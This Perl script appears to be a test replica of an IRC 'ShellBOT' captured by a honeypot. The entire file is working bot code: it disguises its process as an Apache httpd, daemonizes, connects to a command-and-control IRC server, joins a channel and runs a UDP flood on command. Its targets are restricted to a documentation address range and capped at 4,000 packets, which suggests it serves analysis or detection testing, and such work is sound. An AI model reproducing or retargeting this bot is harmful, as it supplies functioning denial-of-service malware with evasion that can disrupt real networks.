#!/usr/bin/perl
# A stand-in for the bot of samples/honeypot.scap.gz: it takes its false name, joins the channel and sends 4,000 datagrams at most to where it is told.
use strict;
use warnings;
use IO::Socket::INET;
use Socket;

chdir '/';
$0 = '/usr/local/apache/bin/httpd -DSSL';
exit if fork;
# Who watches sees one thing after the other.
select undef, undef, undef, 1.5;

sub flood {
    my ($address, $port, $seconds) = @_;
    my ($until, $sent) = (time + $seconds, 0);
    socket my $socket, PF_INET, SOCK_DGRAM, getprotobyname 'udp' or return 0;
    while ($sent < 4000 && time <= $until) {
        send $socket, 'A' x (1000 + $sent % 400), 0, sockaddr_in($port, inet_aton $address);
        $sent++;
    }
    return $sent;
}

my $irc = IO::Socket::INET->new(PeerAddr => '203.0.113.9', PeerPort => 6667, Timeout => 5) or exit 1;
$irc->autoflush(1);
print $irc "NICK nan|d4\n";
print $irc "USER sloboz 198.51.100.20 203.0.113.9 :uid=0(root) gid=0(root) groups=0(root)\n";
while (my $line = <$irc>) {
    print $irc "PONG :$1\n" if $line =~ /^PING :(\S+)/;
    print $irc "JOIN #nanana\n" if $line =~ /^:\S+ 001 /;
    print $irc "PRIVMSG #nanana :ShellBOT 0.1 (test)\n" if $line =~ /:!u \@version/;
    print $irc "PRIVMSG #nanana :Sent ${\ flood($1, $2, $3)} packets.\n" if $line =~ /:!u \@udp1 (203\.0\.113\.\d+) (\d+) (\d)\b/;
    last if $line =~ /:!u \@die/;
}
print $irc "QUIT :bye\n";
